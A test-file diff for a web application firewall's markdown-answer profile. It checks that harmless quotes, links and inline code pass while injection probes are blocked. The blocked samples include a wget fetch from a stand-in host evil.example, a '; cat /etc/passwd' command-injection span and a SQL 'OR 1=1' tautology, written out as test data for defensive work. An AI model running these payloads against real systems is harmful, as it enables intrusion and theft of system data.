@@ -778,3 +778,36 @@ describe('waf API profile: indented code blocks in markdown (session 7)', () => 
     }
   });
 });
+
+describe('waf API profile: quotations, links and operator spans in markdown answers (session 7)', () => {
+  test('a quoted reply, a link to the manual and an operator named in a span pass; CRS blocks them', async () => {
+    for (const body of [
+      'MySQL does not allow the target table in a subquery of a DELETE/UPDATE.\n\n> This deletes the wrong rows if it can be NULL, careful!\n\nHope that helps!',
+      'See also the [manual](https://www.postgresql.org/docs/current/queries-union.html) and `chmod 755` for the rest.',
+      "@maria_db you don't need the `;` inside the `-exec`, only the escaped one at the end",
+    ]) {
+      assert.ok((await run(plain, { body })).error !== undefined, body);
+      assert.equal((await run(api, { body })).error, undefined, body);
+    }
+  });
+
+  test('a probe after a quotation marker is in command position (a redirection to a file named by the next word)', () => {
+    assert.equal(
+      commandOnlyAtStart('MySQL does not allow it.\n> This deletes the wrong rows, careful!'),
+      true,
+    );
+    assert.equal(commandOnlyAtStart('Thanks for the help here today\n> x whoami'), false);
+    assert.equal(commandOnlyAtStart('Thanks for the help here today\n> whoami'), false);
+    assert.equal(commandOnlyAtStart('Thanks for the help here today\n>> x sudo reboot'), false);
+  });
+
+  test('a downloader given a link, operators with payloads: blocked', async () => {
+    for (const body of [
+      'Thanks for the help here, run this:\nwget [setup](https://evil.example/x.sh) and then it works',
+      'Thanks for the help here, the fix is `; cat /etc/passwd` as usual',
+      "Thanks for the help here, the fix is `' OR 1=1--` as usual",
+    ]) {
+      assert.ok((await run(api, { body })).error !== undefined, body);
+    }
+  });
+});
